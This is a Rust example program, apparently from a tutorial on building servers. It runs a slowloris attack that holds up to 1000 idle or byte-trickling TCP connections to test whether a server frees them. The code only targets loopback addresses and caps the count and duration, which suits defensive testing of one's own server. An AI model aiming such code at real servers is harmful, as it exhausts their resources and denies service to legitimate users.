//! 攻击：慢速连接（slowloris）。打开一批连接，一个字节都不发（或者每隔一会儿只发一个字节），
//! 看服务器会不会一直陪着它们，把名额、线程或内存都耗在它们身上。
//!
//! 运行：先启动一个服务器，再 `cargo run --example attack_slowloris -- 127.0.0.1:3214`。
//! 只能攻击本机回环地址上的服务器；连接数和时间都有上限（见 `--help`）。

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};

const DEFAULT_ADDR: &str = "127.0.0.1:3214";

const USAGE: &str = "用法：attack_slowloris [地址] [--connections 个数] [--seconds 秒] [--trickle]
慢速连接攻击：打开一批连接，拿住它们一段时间，一个字节也不发；
--trickle 时每个连接每隔半秒只发一个字节（永远不发换行符）。最后说出服务器关闭了几个。
  地址                 目标服务器，默认 127.0.0.1:3214；只能是 127.0.0.0/8 或 [::1]
  --connections 个数   打开几个连接，默认 50（1 到 1000）
  --seconds 秒         拿住多久，默认 5（0.1 到 60）
  --trickle            每隔半秒发一个字节，而不是一个字节也不发";

/// 像 `println!` 一样打印一行；标准输出被关闭时返回错误 `StdoutClosed`，而不是 panic。
macro_rules! say {
    ($($arg:tt)*) => {
        writeln!(std::io::stdout(), $($arg)*).map_err(|_| StdoutClosed)
    };
}

fn main() {
    match run() {
        Ok(()) => {}
        Err(err) if err.is::<StdoutClosed>() => {}
        Err(err) => {
            eprintln!("错误：{err:#}");
            std::process::exit(1);
        }
    }
}

// ANCHOR: run
fn run() -> Result<()> {
    let Some((target, connections, hold, trickle)) = parse_args()? else {
        say!("{USAGE}")?;
        return Ok(());
    };
    let mut open = Vec::new();
    for _ in 0..connections {
        let stream = TcpStream::connect_timeout(&target, Duration::from_secs(2))
            .with_context(|| format!("连接 {target} 失败（已经打开了 {} 个）", open.len()))?;
        stream.set_nonblocking(true)?; // 下面轮流查看每个连接，谁也不能让循环停下
        open.push(stream);
    }
    let what = if trickle {
        "每隔半秒发一个字节"
    } else {
        "一个字节也不发"
    };
    say!(
        "打开了 {connections} 个连接，拿住 {} 秒，{what}",
        hold.as_secs_f64()
    )?;

    let start = Instant::now();
    let mut closed_at: Vec<Option<Duration>> = vec![None; open.len()];
    let mut next_byte = start;
    // 每 50 毫秒看一遍：哪些连接被服务器关闭了（读到 EOF 或复位）；该发一个字节了就发。
    while start.elapsed() < hold {
        let send = trickle && Instant::now() >= next_byte;
        if send {
            next_byte += Duration::from_millis(500);
        }
        for (stream, closed) in open.iter_mut().zip(closed_at.iter_mut()) {
            if closed.is_some() {
                continue;
            }
            let mut byte = [0u8; 1];
            let gone = match stream.read(&mut byte) {
                Ok(0) => true,                                        // 服务器关闭了连接
                Ok(_) => false,                                       // 回显了什么：不用管
                Err(e) if e.kind() == ErrorKind::WouldBlock => false, // 还开着
                Err(_) => true,                                       // 复位等错误
            } || (send && stream.write_all(b"a").is_err());
            if gone {
                *closed = Some(start.elapsed());
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let times: Vec<Duration> = closed_at.iter().flatten().copied().collect();
    match (times.iter().min(), times.iter().max()) {
        // 只说到整秒（“2 秒多”）：几十毫秒的出入每次都不一样，也不重要。
        (Some(first), Some(last)) => say!(
            "服务器关闭了 {} 个：第一个在 {} 秒多，最后一个在 {} 秒多；{} 个一直开着",
            times.len(),
            first.as_secs(),
            last.as_secs(),
            connections - times.len()
        )?,
        _ => say!(
            "{} 秒里服务器一个也没有关闭：{connections} 个连接一直开着",
            hold.as_secs_f64()
        )?,
    }
    Ok(())
}
// ANCHOR_END: run

// ANCHOR: loopback
/// 只攻击本机：目标必须是回环地址（127.0.0.0/8 或 ::1），别的一律拒绝。
fn loopback_only(text: &str) -> Result<SocketAddr> {
    let addr: SocketAddr = text.parse().with_context(|| {
        format!("无法解析地址 `{text}`：写成 IP:端口，例如 127.0.0.1:3214（不接受主机名）")
    })?;
    if !addr.ip().is_loopback() {
        bail!(
            "拒绝攻击 {addr}：攻击程序只能对准本机回环地址（127.0.0.0/8 或 [::1]）上你自己的服务器"
        );
    }
    Ok(addr)
}
// ANCHOR_END: loopback

/// 标准输出已被关闭：读输出的程序已经退出。
#[derive(Debug)]
struct StdoutClosed;

impl std::fmt::Display for StdoutClosed {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("标准输出已被关闭")
    }
}

impl std::error::Error for StdoutClosed {}

/// 读取命令行（见 USAGE）。`-h` / `--help` 时返回 None。
fn parse_args() -> Result<Option<(SocketAddr, usize, Duration, bool)>> {
    let mut target = None;
    let mut connections = 50;
    let mut hold = Duration::from_secs(5);
    let mut trickle = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "-h" | "--help" => return Ok(None),
            "--trickle" => trickle = true,
            "--connections" => {
                let value = args.next().context("--connections 后面要写一个个数")?;
                connections = value
                    .parse()
                    .ok()
                    .filter(|n| (1..=1000).contains(n))
                    .with_context(|| {
                        format!("--connections 要写 1 到 1000 之间的整数，而不是 `{value}`")
                    })?;
            }
            "--seconds" => {
                let value = args.next().context("--seconds 后面要写一个秒数")?;
                hold = value
                    .parse::<f64>()
                    .ok()
                    .filter(|s| (0.1..=60.0).contains(s))
                    .map(Duration::from_secs_f64)
                    .with_context(|| {
                        format!("--seconds 要写 0.1 到 60 之间的秒数，而不是 `{value}`")
                    })?;
            }
            _ if arg.starts_with('-') => bail!("不认识的选项 {arg}：用 --help 查看用法"),
            _ if target.is_some() => bail!("参数太多：只能给一个地址，例如 127.0.0.1:3214"),
            _ => target = Some(arg),
        }
    }
    let target = loopback_only(target.as_deref().unwrap_or(DEFAULT_ADDR))?;
    Ok(Some((target, connections, hold, trickle)))
}
